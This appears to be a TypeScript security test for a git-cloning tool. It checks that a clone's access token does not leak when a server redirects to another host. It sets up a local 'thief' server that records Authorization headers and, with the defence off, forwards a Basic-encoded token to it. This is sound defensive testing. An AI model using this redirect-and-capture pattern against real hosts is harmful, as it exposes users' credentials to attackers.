import { createServer, type RequestListener } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { cloneAccess } from '../../../src/github/clone-source.ts'
import { createGitWorkspaces } from '../../../src/workspace/git-workspaces.ts'
import { type GitScene, gitCase } from '../support/git-scene.ts'

export const attack = gitCase({
  mechanism: 'redirects',
  gain: 'the token of the clone, sent on to a host that the server names',
  async attempt(scene) {
    const heard: string[] = []
    const thief = await serve(scene, '127.0.0.2', (request, response) => {
      heard.push(request.headers.authorization ?? '')
      response.writeHead(404).end()
    })
    const server = await serve(scene, '127.0.0.1', (request, response) =>
      response.writeHead(302, { location: `${thief}${request.url}` }).end(),
    )
    const url = `${server}/acme/tool.git`
    if (scene.defence === 'on') {
      const workspaces = createGitWorkspaces({ root: join(scene.outside, 'data'), hostEnv: process.env })
      const env = cloneAccess(url, scene.token)
      await workspaces
        .open({ repositoryKey: 'x', url, env, commit: '1'.repeat(40), runId: 'r-1' })
        .catch(() => undefined)
    } else
      await fetch(`${url}/info/refs`, { redirect: 'manual' }).then((answer) =>
        fetch(answer.headers.get('location') ?? '', { headers: { authorization: encoded(scene.token) } }),
      )
    return heard.includes(encoded(scene.token))
  },
})

const encoded = (token: string) => `Basic ${Buffer.from(`x-access-token:${token}`).toString('base64')}`

async function serve(scene: Pick<GitScene, 'onEnd'>, host: string, answer: RequestListener): Promise<string> {
  const server = createServer(answer)
  await new Promise<void>((resolve) => server.listen(0, host, resolve))
  scene.onEnd(() => server.close())
  return `http://${host}:${(server.address() as AddressInfo).port}`
}
